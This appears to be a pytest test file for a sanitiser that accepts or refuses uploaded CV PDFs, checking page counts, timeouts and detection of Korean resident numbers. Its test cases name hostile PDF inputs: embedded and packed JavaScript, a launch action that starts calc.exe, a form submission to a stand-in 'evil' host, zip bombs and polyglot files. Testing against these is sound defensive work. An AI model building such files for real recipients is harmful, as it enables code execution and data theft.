"""A PDF that is handed on does nothing where it is opened, is nothing else beside, and tells no resident number."""

import contextlib
import io
import time

import pytest
from pypdf import PdfReader, PdfWriter

from profiles.cv import papers as looks
from profiles.cv import sandbox
from profiles.cv.refusals import Unreadable
from tests.profiles.cv import hostile, papers, writing

SECONDS = 10
REFUSED = {
    "empty": (lambda: b"", "empty"),
    "old Hangul file named .pdf": (lambda: hostile.ole("FileHeader", "DocInfo"), "old_hwp"),
    "DOCX": (lambda: hostile.DOCX, "unknown_kind"),
    "zip bomb": (hostile.flat_bomb, "too_much_inside"),
    "head of a PDF alone": (lambda: b"%PDF-1.7\n", "broken"),
    "PDF cut off": (lambda: papers.WORDS[:-40], "broken"),
    "PDF with a password": (lambda: hostile.locked_pdf(opens_with="1962"), "encrypted"),
    "PDF that forbids printing": (lambda: hostile.locked_pdf(opens_with=""), "encrypted"),
    "PDF of 31 pages": (lambda: writing.pdf_of(b"", pages=31), "too_many_pages"),
    "script": (papers.script, "active"),
    "script by another spelling": (papers.script_by_another_spelling, "active"),
    "script that nothing leads to": (papers.script_that_nothing_leads_to, "active"),
    "script inside of a list": (papers.script_inside_of_a_list, "active"),
    "packed script": (papers.packed_script, "active"),
    "programme to start": (lambda: papers.linking(b"<< /S /Launch /F (calc.exe) >>"), "active"),
    "form to send": (lambda: papers.linking(b"<< /S /SubmitForm /F (http://evil) >>"), "active"),
    "other file to open": (lambda: papers.linking(b"<< /S /GoToR /F (x.pdf) >>"), "active"),
    "file inside": (papers.with_file_inside, "active"),
    "zip behind": (papers.with_zip_behind, "two_kinds"),
    "page before": (papers.with_page_before, "two_kinds"),
    "page behind": (papers.with_page_behind, "two_kinds"),
    "resident number": (lambda: papers.telling("성명 김영희", "주민번호 620307-2345678"), "resident_number"),
    "resident number over two lines": (lambda: papers.telling("620307-", "2345678"), "resident_number"),
    "resident number sign by sign": (lambda: papers.telling("6 2 0 3 0 7 - 2 3 4 5 6 7 8"), "resident_number"),
}
EITHER_WAY = {
    "PDF whose pages are their own parents": hostile.looping_pdf,
    "PDF that draws itself": hostile.endless_form_pdf,
    "PDF that inflates to 3 GB": hostile.inflating_pdf,
}


@pytest.mark.parametrize("name", REFUSED)
def test_pages_of_refuses(name: str) -> None:
    make, code = REFUSED[name]

    with pytest.raises(Unreadable) as refused:
        sandbox.pages_of(make(), seconds=SECONDS)

    assert refused.value.code == code


@pytest.mark.parametrize("name", EITHER_WAY)
def test_pages_of_what_never_ends_ends(name: str) -> None:
    began = time.monotonic()

    with contextlib.suppress(Unreadable):
        assert sandbox.pages_of(EITHER_WAY[name](), seconds=SECONDS) == 1

    assert time.monotonic() - began < SECONDS + 5


@pytest.mark.parametrize(
    ("content", "pages"),
    [
        (papers.WORDS, 1),
        (hostile.scanned_pdf(), 1),
        (writing.pdf_of(b"", pages=30), 30),
        (papers.linking(b"<< /S /URI /URI (https://example.org) >>"), 1),
        (papers.opening(b"<< /S /GoTo /D [10 0 R /Fit] >>"), 1),
        (papers.telling("전화 010-1234-5678", "생년월일 1962. 3. 7.", "620307-2******", "계좌 110-234-567890"), 1),
    ],
    ids=["words", "scan", "30 pages", "link to a site", "opens at a page", "numbers of other kinds"],
)
def test_pages_of_what_may_be_handed_on(content: bytes, pages: int) -> None:
    assert sandbox.pages_of(content, seconds=SECONDS) == pages


def test_packed_script_is_really_there() -> None:
    """What the refusal rests on: the bytes show nothing, and the library finds it."""
    content = papers.packed_script()

    assert b"JavaScript" not in content
    assert PdfReader(io.BytesIO(content)).root_object["/OpenAction"]["/S"] == "/JavaScript"


def test_what_a_library_writes_is_taken() -> None:
    """Object streams, metadata and a table of contents, as word processors add them."""
    writer = PdfWriter(PdfReader(io.BytesIO(papers.WORDS)))
    writer.add_metadata({"/Title": "자기소개", "/Author": "김영희"})
    writer.add_outline_item(title="처음", page_number=0)
    held = io.BytesIO()
    writer.write(held)

    assert looks.answer(held.getvalue()) == {"pages": 1}
